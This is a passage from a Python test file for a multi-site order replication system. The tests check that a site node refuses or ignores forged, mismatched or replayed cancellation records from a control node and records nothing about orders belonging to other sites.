    Y's signed body under X's id; Y's body edited to name X. None is signed for X: X stays as
    it is, nothing written about it (no applied, waiting or refused row)."""
    site, control = nodes
    x, y = order_for(control, "GSTT-PH"), order_for(control, "GSTT-PH")
    deliver(control, site)
    cancel_at_control(control, y)
    deliver(control, site)
    assert fh.order_status(site, y) == "cancelled"
    signed_y = dict(cancellation_row(control, y).new or {})

    forge_control_row(site, control, **CANCEL, entity_id=x, new=cancellation_body_for(site, x))
    forge_control_row(site, control, **CANCEL, entity_id=x, new=signed_y)
    edited = {**signed_y, "order_id": x}
    forge_control_row(site, control, **CANCEL, entity_id=x, new=edited)
    assert fh.order_status(site, x) == "designed"
    assert cancellation_outcomes(site, x) == []
    assert waiting_rows(site, x) == [] and refused_rows(site) == []
    assert cancellation_outcomes(site, y) == [("create", "cancelled here")]


def test_a_cancellation_of_another_sites_order_is_not_acted_on_here(
    nodes: tuple[App, App],
) -> None:
    """The control cancels a Manchester order it handed over, and a St Thomas' one: St
    Thomas' node cancels its own and writes nothing about Manchester's. A body naming a
    Manchester order its copy holds (as its own site's, or as Manchester's) is refused
    before anything is written, naming the field."""
    site, control = nodes
    theirs, ours = order_for(control, "MAN-PH"), order_for(control, "GSTT-PH")
    deliver(control, site)
    cancel_at_control(control, theirs, by="admin")
    cancel_at_control(control, ours)
    deliver(control, site)
    assert fh.order_status(site, ours) == "cancelled"
    assert cancellation_outcomes(site, theirs) == [] and waiting_rows(site, theirs) == []

    in_copy = order_for(site, "MAN-PH")  # in the site's copy, never its to make or cancel
    body = {**dict(cancellation_row(control, ours).new or {}), "order_id": in_copy}
    with site.uow() as uow, pytest.raises(Refused) as as_ours:
        site.orders.check_handed_over_cancellation(uow, body, site_id=repl(site).site_id)
    assert (as_ours.value.code, as_ours.value.field) == ("another_site", "order_id")
    body["site_id"] = fh.site_id(site, "MAN-PH")
    with site.uow() as uow, pytest.raises(Refused) as as_theirs:
        site.orders.check_handed_over_cancellation(uow, body, site_id=repl(site).site_id)
    assert (as_theirs.value.code, as_theirs.value.field) == ("another_site", "site_id")
    assert fh.order_status(site, in_copy) == "designed"


def test_a_replayed_cancellation_changes_nothing_even_once_the_order_could_be_cancelled(
    nodes: tuple[App, App],
) -> None:
    """The control cancels an order the site has made: refused there, naming the state. Its
    run later fails (an order the site's rules would cancel). The control's signed
    cancellation replayed in a well-chained forged row is not acted on again: the order is
    cancelled once, by the first record the control signed, so the refusal stands and the
    failed order stays for the site to re-plan."""
    site, control = nodes
    x = order_for(control, "GSTT-PH")
    deliver(control, site)
    fh.run(site)
    made = fh.order_status(site, x)
    cancel_at_control(control, x)
    deliver(control, site)
    ((action, outcome),) = cancellation_outcomes(site, x)
    assert action == "refuse" and f"is {made} here" in outcome
    fh.edit(site, Order, x, status="failed")  # its run failed: cancellable here now

    body = dict(cancellation_row(control, x).new or {})
    forge_control_row(site, control, **CANCEL, entity_id=x, new=body)  # the replay
    assert fh.order_status(site, x) == "failed"
    assert cancellation_outcomes(site, x) == [(action, outcome)]
    assert waiting_rows(site, x) == []
